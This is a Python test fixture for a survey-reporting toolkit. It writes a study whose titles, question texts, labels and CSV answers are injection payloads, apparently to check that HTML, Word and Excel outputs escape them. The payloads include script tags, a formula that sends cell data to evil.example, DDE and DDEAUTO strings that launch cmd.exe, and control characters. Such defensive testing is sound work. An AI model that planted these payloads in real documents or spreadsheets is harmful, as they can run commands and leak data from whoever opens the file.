"""A small study in a folder whose labels, answers and titles carry hostile payloads."""

from __future__ import annotations

import csv
from pathlib import Path

import yaml

#: HTML, script, formula, DDE, Word-field and control-character payloads
PAYLOADS = {
    "script": "<script>alert('x')</script>",
    "img": "<img src=x onerror=alert(2)>",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "control": "bell\x07 vt\x0b esc\x1b",
    "field": '{ DDEAUTO c:\\cmd.exe "/k calc" }',
}
#: payloads that cannot be in a CSV export (NUL) but can be in an instrument
LABEL_ONLY = {"nul": "nul\x00x"}


def instrument_dict() -> dict:
    """An instrument whose title, texts and category labels are payloads."""
    labels = [*PAYLOADS.values(), *LABEL_ONLY.values()]
    return {
        "schema": "surveykit.instrument/1", "id": "hostile", "version": "1.0.0",
        "status": "draft", "title": {"en": PAYLOADS["hyperlink"]},
        "languages": {"source": "en", "names": {"en": "English"}},
        "universe": {"en": PAYLOADS["script"]},
        "choice_lists": {"c": {"measure": "nominal", "options": [
            {"code": i + 1, "label": {"en": v}} for i, v in enumerate(labels)]}},
        "items": [
            {"id": "q1", "var": "q1", "type": "single", "choices": "c",
             "text": {"en": PAYLOADS["dde"] + PAYLOADS["script"] + PAYLOADS["field"]}},
            {"id": "q2", "var": "q2", "type": "integer",
             "text": {"en": PAYLOADS["minus"] + PAYLOADS["control"]}},
            {"id": "q3", "var": "q3", "type": "text", "disclosure_risk": "free_text",
             "text": {"en": "@free " + PAYLOADS["img"]}},
        ],
    }


def write_study(root: Path, *, rows: int = 60, outputs: tuple[str, ...] = ("html", "docx",
                                                                          "xlsx")) -> Path:
    """Write instrument, data and study.yaml into ``root``; return the study file."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "hostile.yaml").write_text(yaml.safe_dump(instrument_dict(), allow_unicode=True),
                                       encoding="utf-8")
    answers = list(PAYLOADS.values())
    with (root / "data.csv").open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow(["q1", "q2", "q3"])
        for i in range(rows):
            out.writerow([i % 12 + 1, 20 + i % 7, answers[i % len(answers)]])
    groups = [PAYLOADS[k] for k in ("dde", "at", "tab", "cr", "minus", "script", "control")]
    study = {
        "schema": "surveykit.study/1", "id": "hostile",
        "title": {"en": PAYLOADS["script"] + PAYLOADS["hyperlink"] + "\x07"},
        "waves": [{"id": "2026", "instrument": "hostile.yaml", "data": "data.csv",
                   "platform": "generic"}],
        "derive": [{"name": "grp", "from": "q2",
                    "map": {str(20 + i): g for i, g in enumerate(groups)}}],
        "analysis": {"domains": ["grp"]},
        "report": {"language": "en", "suppress_below": 1, "include_free_text": True,
                   "outputs": list(outputs)},
    }
    path = root / "study.yaml"
    path.write_text(yaml.safe_dump(study, allow_unicode=True), encoding="utf-8")
    return path
